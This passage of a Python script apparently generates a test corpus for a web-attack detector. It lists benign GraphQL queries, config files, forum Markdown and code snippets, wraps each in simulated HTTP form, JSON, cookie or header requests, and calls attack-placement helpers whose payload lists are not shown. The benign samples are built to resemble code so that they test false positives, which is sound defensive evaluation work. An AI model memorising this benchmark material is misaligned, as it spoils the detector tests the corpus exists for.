     "price { amount currency } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
     {"q": "union jack cushion", "first": 24}),
    ("AddToCart", "mutation AddToCart($input: CartLineInput!) {\n  cartLinesAdd(input: $input) {\n    cart { id "
     "totalQuantity }\n    userErrors { field message }\n  }\n}",
     {"input": {"merchandiseId": "gid://shop/ProductVariant/44120", "quantity": 2}}),
    ("OrderHistory", "query OrderHistory {\n  me {\n    orders(first: 10, sortKey: PROCESSED_AT, reverse: true) "
     "{\n      nodes { name processedAt totalPrice { amount } }\n    }\n  }\n}", None),
    ("UpdateAddress", "mutation UpdateAddress($id: ID!, $address: AddressInput!) {\n  addressUpdate(id: $id, "
     "address: $address) { address { id } userErrors { message } }\n}",
     {"id": "gid://shop/Address/9912", "address": {"name": "Grace O'Connor-Burke",
                                                   "street": "Flat 2, 7 St. Mary's Rd", "city": "Cork"}}),
    ("DeleteDraft", "mutation DeleteDraft($id: ID!) { draftDelete(id: $id) { deletedId } }",
     {"id": "gid://shop/Draft/771"}),
    ("ProductFragment", "fragment Price on Money { amount currency }\nquery Product($handle: String!) {\n  "
     "product(handle: $handle) {\n    title\n    description(truncateAt: 200)\n    variants(first: 5) { nodes { "
     "price { ...Price } } }\n  }\n}", {"handle": "drop-leaf-table-oak"}),
    ("PostComment", "mutation PostComment($body: String!, $postId: ID!) { commentCreate(postId: $postId, body: "
     "$body) { comment { id } } }",
     {"postId": "gid://blog/Post/88", "body": "Nice post! Though `SELECT *` in the example made me wince 😬"}),
]

# Configuration snippets pasted into a settings or CI form: (kind, text).
CONFIGS = [
    ("yaml", "services:\n  web:\n    image: shop/web:2026.4\n    ports: [\"8080:8080\"]\n    environment:\n      "
     "DATABASE_URL: postgres://shop@db:5432/shop\n      LOG_LEVEL: info\n    depends_on: [db]\n  db:\n    image: "
     "postgres:16\n    volumes: [\"pgdata:/var/lib/postgresql/data\"]\nvolumes:\n  pgdata: {}"),
    ("nginx", "server {\n    listen 443 ssl;\n    server_name shop.example;\n    root /var/www/shop/public;\n    "
     "location / { try_files $uri $uri/ /index.html; }\n    location /api/ { proxy_pass http://127.0.0.1:9000; }"
     "\n}"),
    ("toml", "[server]\nhost = \"0.0.0.0\"\nport = 8080\n\n[database]\nurl = \"postgres://localhost/shop\"\n"
     "pool_size = 10\nstatement_timeout = \"5s\"\n\n[features]\nenabled = [\"search\", \"reviews\"]"),
    ("env", "APP_ENV=production\nAPP_URL=https://shop.example\nMAIL_FROM=\"Shop <noreply@shop.example>\"\n"
     "CACHE_TTL=300\nFEATURE_DROP_SHIPPING=true"),
    ("systemd", "[Unit]\nDescription=Shop worker\nAfter=network-online.target\n\n[Service]\nUser=shop\n"
     "WorkingDirectory=/opt/shop\nExecStart=/opt/shop/bin/worker --queue default\nRestart=on-failure\n\n"
     "[Install]\nWantedBy=multi-user.target"),
    ("github-actions", "name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    "
     "steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test -- --coverage\n      - run: "
     "echo \"done in ${{ job.status }}\""),
    ("ini", "[mysqld]\nmax_connections = 200\nsql_mode = STRICT_TRANS_TABLES,NO_ZERO_DATE\nslow_query_log = 1\n"
     "slow_query_log_file = /var/log/mysql/slow.log\nlong_query_time = 0.5"),
    ("crontab", "# m h dom mon dow command\n*/15 * * * * /opt/shop/bin/sync-stock >> /var/log/shop/stock.log "
     "2>&1\n0 3 * * 0 /opt/shop/bin/report --weekly --to ops@shop.example"),
]

# Forum answers in Markdown with fenced code.
MARKDOWN = [
    "You want a window function here:\n\n```sql\nSELECT customer_id, paid_at, amount\nFROM (\n  SELECT p.*, "
    "ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY paid_at DESC) AS rn\n  FROM payments p\n) t\nWHERE rn "
    "= 1;\n```\n\nOn Postgres, `DISTINCT ON (customer_id)` is shorter but not portable.",
    "Guard the variable so an empty value aborts the script:\n\n```bash\nset -euo pipefail\n: \"${BUILD_DIR:?BUILD_DIR "
    "must be set}\"\nrm -rf -- \"$BUILD_DIR\"/*\n```\n\nThe `--` also protects you from file names starting with a "
    "dash.",
    "The button defaults to `type=\"submit\"`, so the form submits as well:\n\n```html\n<form id=\"profile\">\n  "
    "<button type=\"button\" id=\"save\">Save</button>\n</form>\n```\n\nThen attach the handler with "
    "`addEventListener('click', save)` instead of an inline attribute.",
    "Escape the `<` when you inline JSON:\n\n```js\nconst json = JSON.stringify(state).replace(/</g, '\\\\u003c');\n"
    "```\n\nThat way no string in the data can close the surrounding element.",
    "For the log4j question: system properties are resolved at config load. Under systemd `user.home` may be `/`. "
    "Set it explicitly:\n\n```ini\n[Service]\nEnvironment=JAVA_OPTS=-Duser.home=/var/lib/shop\n```",
    "Use `ProcessBuilder` with a list so nothing is parsed by a shell:\n\n```java\nnew ProcessBuilder(\"convert\", "
    "src.toString(), dst.toString())\n    .redirectErrorStream(true)\n    .start();\n```",
    "To keep Vue's braces away from Jinja:\n\n```jinja\n{% raw %}\n<div id=\"app\">{{ message }}</div>\n{% endraw %}"
    "\n```\n\nor set `delimiters: ['[[', ']]']` in the Vue app.",
    "Quick way to find what's on the port:\n\n```console\n$ lsof -nP -iTCP:8080 -sTCP:LISTEN\nCOMMAND   PID USER   "
    "FD   TYPE\nnode    48211 dana   23u  IPv6\n$ kill 48211\n```\n\nTry plain `kill` before `kill -9`.",
    "For the PowerShell one, `-Force` includes hidden and system items:\n\n```powershell\nGet-ChildItem -Path "
    "C:\\Projects -Recurse -Force -Filter *.log |\n  Where-Object { $_.Length -gt 1MB }\n```",
    "Here's the migration we used to drop the column safely:\n\n```sql\n-- 1. stop writing it (deploy app)\n-- 2. "
    "then:\nALTER TABLE orders DROP COLUMN IF EXISTS legacy_ref;\n```\n\nDo step 1 a full release before step 2.",
    "| Operator | Meaning |\n|---|---|\n| `&&` | run next if previous succeeded |\n| `\\|\\|` | run next if "
    "previous failed |\n| `;` | run next regardless |\n\n```sh\nmake && make install || echo \"build failed\"\n```",
    "In Python you double the braces:\n\n```python\nname = \"Alice\"\nprint(f\"{{{name}}}\")  # -> {Alice}\n"
    "print(f\"{{name}}\")    # -> {name}\n```",
]

# Short code in a `code` field (a snippet or paste service): (language, code).
SNIPPETS = [
    ("sql", "SELECT c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\n"
     "GROUP BY c.name\nHAVING COUNT(o.id) > 3\nORDER BY orders DESC;"),
    ("bash", "for f in ~/Downloads/*.csv; do\n  echo \"importing $f\"\n  ./import.sh \"$f\" || break\ndone"),
    ("python", "with open(\"/tmp/report.txt\", \"w\") as fh:\n    for row in rows:\n        fh.write(f\"{row.sku}\\t"
     "{row.qty}\\n\")"),
    ("javascript", "document.querySelectorAll('input[type=checkbox]').forEach(cb => { cb.checked = true; });"),
    ("css", ".card > .title::after { content: ' \\2192'; }\n.card:hover { outline: 2px solid #0a7; }"),
    ("html", "<label for=\"qty\">Quantity</label>\n<input id=\"qty\" name=\"qty\" type=\"number\" min=\"1\" "
     "max=\"10\" value=\"1\">"),
    ("go", "rows, err := db.QueryContext(ctx, \"SELECT id, email FROM users WHERE created_at > $1\", since)\nif err "
     "!= nil {\n\treturn err\n}\ndefer rows.Close()"),
    ("rust", "let total: u64 = orders.iter().filter(|o| o.paid).map(|o| o.amount_cents).sum();"),
    ("powershell", "Get-Content .\\orders.csv | Select-Object -Skip 1 | ForEach-Object { ($_ -split ',')[2] }"),
    ("ruby", "User.where(active: true).order(created_at: :desc).limit(10).pluck(:email)"),
    ("regex", "^(?<year>\\d{4})-(?<month>0[1-9]|1[0-2])-(?<day>\\d{2})$"),
    ("c", "#include <stdio.h>\nint main(void) { printf(\"%d%%\\n\", 42); return 0; }"),
]


# ---------------------------------------------------------------- request builders

def crlf(text: str) -> str:
    """Browsers send a textarea's line breaks as CR LF."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def post_multipart(rng, uri, h, fields):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    b = "----WebKitFormBoundary" + "".join(rng.choice(alphabet) for _ in range(16))
    body = "".join(f"--{b}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields)
    body += f"--{b}--\r\n"
    return g.request("POST", uri, h + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)


def without(h, *names):
    names = {n.lower() for n in names}
    return [x for x in h if x[0].lower() not in names]


def slugify(title: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in title.lower()).strip("-")[:60] or "post"


def search(rng, q):
    extra = rng.choice(["", "&sort=relevance", "&page=2", "&category=all", "&in_stock=1"])
    return g.request("GET", "/search?q=" + urllib.parse.quote_plus(q) + extra, g.browser_headers(rng))


def forum_prose(rng, entry):
    tag, title, body = entry
    return g.post_form("/forum/posts", g.browser_headers(rng),
                     [("title", title), ("body", crlf(body)), ("tags", tag), ("csrf", g.b64url(rng.randbytes(24)))])


def support_ticket(rng, entry):
    subject, text = entry
    return g.post_form("/support/tickets", g.browser_headers(rng), [
        ("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)), ("subject", subject),
        ("priority", rng.choice(["low", "normal", "high"])), ("description", crlf(text))])


def blog_comment(rng, text):
    post = rng.randint(100, 999)
    website = rng.choice(["", "", "https://www.example-blog.net/", "https://dev.example.org/~k"])
    return g.post_form(f"/blog/posts/{post}/comments", g.browser_headers(rng), [
        ("author", rng.pick(NAMES)), ("email", rng.pick(EMAILS)), ("url", website), ("comment", crlf(text)),
        ("comment_parent", str(rng.choice([0, 0, rng.randint(1000, 9999)])))])


def changelog_json(rng, entry):
    version, notes = entry
    doc = {"tag_name": "v" + version, "name": "Release " + version, "body": notes,
           "draft": False, "prerelease": "rc" in version,
           "published_at": f"2026-0{rng.randint(1, 6)}-1{rng.randint(0, 9)}"}
    return g.post_json("/admin/api/releases", g.browser_headers(rng) + g.api_headers(rng), doc)


def commit_webhook(rng, message):
    sha = rng.randbytes(20).hex()
    author = rng.pick(NAMES)
    when = f"2026-04-{rng.randint(10, 28)}T1{rng.randint(0, 9)}:{rng.randint(10, 59)}:00+01:00"
    doc = {"ref": "refs/heads/" + rng.choice(["main", "develop", "release/2026.4"]),
           "before": rng.randbytes(20).hex(), "after": sha,
           "repository": {"full_name": "acme/storefront", "default_branch": "main"},
           "commits": [{"id": sha, "message": message, "timestamp": when,
                        "author": {"name": author, "email": rng.pick(EMAILS)},
                        "added": [], "modified": ["src/app.ts"], "removed": []}]}
    h = [["Host", g.HOST], ["User-Agent", "GitHub-Hookshot/4f1c2a9"], ["Accept", "*/*"],
         ["X-GitHub-Event", "push"], ["X-GitHub-Delivery", g.uuid4(rng)],
         ["X-Hub-Signature-256", "sha256=" + rng.randbytes(32).hex()]]
    return g.post_json("/ci/hooks/push", h, doc)


def docs_feedback(rng, entry):
    page, helpful, text = entry
    return g.post_form("/docs/feedback", g.browser_headers(rng),
                     [("page", page), ("helpful", helpful), ("feedback", crlf(text)), ("email", "")])


def wiki_multipart(rng, entry):
    title, content, summary = entry
    return post_multipart(rng, "/wiki/edit", g.browser_headers(rng), [
        ("title", title), ("wpTextbox", crlf(content)), ("wpSummary", summary), ("wpMinoredit", "0"),
        ("wpEditToken", rng.randbytes(16).hex() + "+\\")])


def chat_json(rng, text):
    doc = {"channel": "C0" + rng.randbytes(4).hex().upper(), "text": text, "client_msg_id": g.uuid4(rng),
           "thread_ts": rng.choice([None, f"{1767600000 + rng.randint(0, 10**7)}.{rng.randint(10**5, 10**6)}"])}
    return g.post_json("/api/chat.postMessage", g.browser_headers(rng) + g.api_headers(rng), doc)


def address_form(rng, entry):
    name, street, city, postcode, country, note = entry
    return g.post_form("/checkout/shipping", g.browser_headers(rng), [
        ("full_name", name), ("address_line1", street), ("city", city), ("postcode", postcode),
        ("country", country), ("phone", f"+{rng.randint(30, 99)} {rng.randint(100, 999)} {rng.randint(1000, 9999)}"),
        ("delivery_instructions", note), ("email", rng.pick(EMAILS))])


def contact_i18n(rng, entry):
    lang, text = entry
    return g.post_form(f"/{lang.lower()}/contact", g.browser_headers(rng), [
        ("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)), ("message", crlf(text)), ("lang", lang)])


def review_json(rng, entry):
    rating, title, text = entry
    product = rng.randint(1000, 9999)
    doc = {"rating": rating, "title": title, "body": text, "recommend": rating >= 4,
           "author": {"nickname": rng.pick(NAMES)}, "locale": rng.choice(["en-GB", "en-US", "en-IE"])}
    return g.post_json(f"/api/v2/products/{product}/reviews", g.browser_headers(rng), doc)


def recipe_json(rng, entry):
    title, ingredients, method = entry
    doc = {"title": title, "servings": rng.randint(2, 8), "ingredients": ingredients, "method": method,
           "tags": rng.sample(["vegetarian", "quick", "baking", "family", "budget"], 2),
           "source": {"shared_by": rng.pick(NAMES), "app": "Cookbook/3.2 (iOS)"}}
    return g.post_json("/api/v1/recipes", g.browser_headers(rng) + g.api_headers(rng), doc)


def legal_form(rng, entry):
    page, text = entry
    return g.post_form(f"/admin/pages/{page}/sections", g.browser_headers(rng), [
        ("section_text", crlf(text)), ("revision_note", "legal review " + rng.choice(["Q1", "Q2", "2026"])),
        ("_token", g.b64url(rng.randbytes(30)))])


def poetry_multipart(rng, entry):
    title, text = entry
    return post_multipart(rng, "/magazine/submit", g.browser_headers(rng), [
        ("author", rng.pick(NAMES)), ("email", rng.pick(EMAILS)), ("title", title), ("poem", crlf(text)),
        ("previously_published", "no"), ("agree_terms", "on")])


def cookie_text(rng, text):
    name = rng.choice(["draft_note", "saved_search", "ui_memo", "cart_note", "compose_draft"])
    h = without(g.browser_headers(rng), "Cookie")
    cookie = g.long_cookie(rng) + f"; {name}=" + urllib.parse.quote(text, safe="")
    path = rng.choice(["/", "/account", "/cart", "/search?q=lamps", "/account/messages"])
    return g.request("GET", path, h + [["Cookie", cookie]])


def referer_search(rng, q):
    engine = rng.choice([
        "https://www.google.com/search?q={}&client=firefox-b-d&sca_esv=1",
        "https://www.bing.com/search?q={}&form=QBLH", "https://duckduckgo.com/?q={}&ia=web",
        "https://www.ecosia.org/search?method=index&q={}", "https://search.brave.com/search?q={}&source=web"])
    h = without(g.browser_headers(rng), "Referer")
    path = rng.choice(["/blog/2026/03/why-we-dropped-the-union-table", "/kb/editing-hosts-files",
                       "/blog/shell-basics", "/products/drop-leaf-table-oak", "/docs/guides/sql-reports", "/"])
    return g.request("GET", path, h + [["Referer", engine.format(urllib.parse.quote_plus(q))]])


def header_text(rng, entry):
    name, text = entry
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng) + [[name, text]]
    if rng.random() < 0.5:
        return g.request("GET", rng.choice(["/api/v1/cart", "/api/v1/me", "/api/v1/orders?limit=10"]), h)
    return g.post_json("/api/v1/cart/notes", h, {"cart_id": g.uuid4(rng), "source": "web"})


def path_slug(rng, path):
    return g.request("GET", path + rng.choice(["", "", "?ref=home", "?utm_source=newsletter"]), g.browser_headers(rng))


def json_api(rng, entry):
    uri, doc = entry
    return g.post_json(uri, g.browser_headers(rng, accept="application/json") + g.api_headers(rng), doc)


def graphql(rng, entry):
    return g.graphql_request(rng, *entry)


def config_snippet(rng, entry):
    kind, text = entry
    if rng.random() < 0.5:
        return g.post_json("/api/v1/projects/storefront/config", g.browser_headers(rng) + g.api_headers(rng),
                         {"format": kind, "content": text, "comment": "update " + kind})
    return g.post_form("/settings/advanced", g.browser_headers(rng),
                     [("format", kind), ("config", crlf(text)), ("save", "Save changes")])


def markdown_fenced(rng, md):
    thread = rng.randint(100, 9999)
    return g.post_json(f"/api/v1/threads/{thread}/replies", g.browser_headers(rng),
                     {"body": md, "format": "markdown", "quote_id": rng.choice([None, rng.randint(10**4, 10**5)])})


def code_field(rng, entry):
    lang, code = entry
    if rng.random() < 0.5:
        return g.post_form("/paste", g.browser_headers(rng),
                         [("language", lang), ("code", crlf(code)), ("expiry", rng.choice(["1d", "1w", "never"]))])
    return g.post_json("/api/v1/snippets", g.browser_headers(rng) + g.api_headers(rng),
                     {"title": f"{lang} snippet", "language": lang, "code": code, "visibility": "unlisted"})


# (kind, builder, the texts it is built from): one request per text.
KINDS = [
    ("search", search, SEARCHES), ("forum_prose", forum_prose, FORUM), ("support_ticket", support_ticket, TICKETS),
    ("blog_comment", blog_comment, COMMENTS), ("changelog_json", changelog_json, CHANGELOGS),
    ("commit_webhook", commit_webhook, COMMITS), ("docs_feedback", docs_feedback, DOCS_FEEDBACK),
    ("wiki_multipart", wiki_multipart, WIKI), ("chat_json", chat_json, CHAT), ("address_form", address_form, ADDRESSES),
    ("contact_i18n", contact_i18n, CONTACT_I18N), ("review_json", review_json, REVIEWS),
    ("recipe_json", recipe_json, RECIPES), ("legal_form", legal_form, LEGAL),
    ("poetry_multipart", poetry_multipart, POEMS), ("cookie_text", cookie_text, COOKIE_TEXTS),
    ("referer_search", referer_search, REFERER_QUERIES), ("header_text", header_text, HEADER_TEXTS),
    ("path_slug", path_slug, PATH_SLUGS),
    # code-ish, a minority
    ("json_api", json_api, JSON_API), ("graphql", graphql, GRAPHQL), ("config_snippet", config_snippet, CONFIGS),
    ("markdown_fenced", markdown_fenced, MARKDOWN), ("code_field", code_field, SNIPPETS),
]
CODE_KINDS = {"json_api", "graphql", "config_snippet", "markdown_fenced", "code_field"}


def attacks():
    return g.placed_attacks("fourth-", ATTACKS, PLACEMENTS, ENCODINGS)


def benign():
    rng = g.Source(SEED)
    out = g.built_benign("fourth-", KINDS, rng)
    g.require_all_used(rng, "names or e-mails", NAMES, EMAILS)
    code = sum(1 for r in out if r["placement"] in CODE_KINDS)
    if code > 0.15 * len(out):
        raise SystemExit(f"{code} of {len(out)} benign requests are code-ish (more than 15 %)")
    return out


if __name__ == "__main__":
    g.corpus_main(attacks, benign)
